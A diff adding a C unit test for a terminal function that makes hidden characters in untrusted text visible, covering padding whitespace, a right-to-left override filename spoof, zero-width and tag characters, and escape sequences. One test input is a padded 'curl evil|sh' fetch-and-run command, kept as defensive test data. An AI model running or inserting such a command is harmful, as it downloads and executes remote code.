@@ -1,4 +1,5 @@
 /* Untrusted text for a terminal. */
+#include "cli/reveal.h"
 #include "cli/terminal.h"
 
 #include <stdlib.h>
@@ -47,5 +48,36 @@ TEST(terminal_shows_no_control_characters)
         free(text);
         free(line);
         CHECK(same && also);
+    }
+}
+
+/* Whoever decides about it sees all of it: nothing is invisible, moves the rest, or begins a line that it is not. */
+TEST(terminal_reveals_what_somebody_decides_about)
+{
+    static const struct {
+        const char *text;
+        unsigned    indent;
+        const char *want;
+    } cases[] = {
+        {"{\"a\":\"plain \xc3\xa9\xe6\xbc\xa2\"}", 0, "{\"a\":\"plain \xc3\xa9\xe6\xbc\xa2\"}"},
+        {"ls        ; curl evil|sh", 0, "ls<8 blanks>; curl evil|sh"},
+        {"gpj.\xe2\x80\xae"
+         "exe",
+         0, "gpj.<U+202E>exe"},
+        {"a\xe2\x80\x8b\xc2\xa0\xe3\x80\x80\xef\xbb\xbf\xc2\xad"
+         "b",
+         0, "a<U+200B><U+00A0><U+3000><U+FEFF><U+00AD>b"},
+        {"\033[2J\r\n\t\x7f\x9b", 0, "<U+001B>[2J<U+000D><U+000A><U+0009><U+007F><0x9b>"},
+        {"tag\xf3\xa0\x81\xa1\xef\xb8\x8f\xe2\xa0\x80", 0, "tag<U+E0061><U+FE0F><U+2800>"},
+        {"one\\ntwo\\\\nthree", 0, "one\\ntwo\\\\nthree"},
+        {"one\\ntwo\\\\nthree", 2, "one\\n\n  two\\\\nthree"}, /* of two backslashes the second escapes nothing */
+        {"\\", 2, "\\"},
+    };
+    for (size_t i = 0; i < WB_LEN(cases); i++) {
+        WB_CLEANUP(wb_buf_done) struct wb_buf out = WB_BUF(4096);
+        test_note("case %zu", i);
+        cli_reveal(&out, wb_cstr(cases[i].text), cases[i].indent);
+        CHECK(!out.failed);
+        CHECK_STR(wb_buf_str(&out), wb_cstr(cases[i].want));
     }
 }
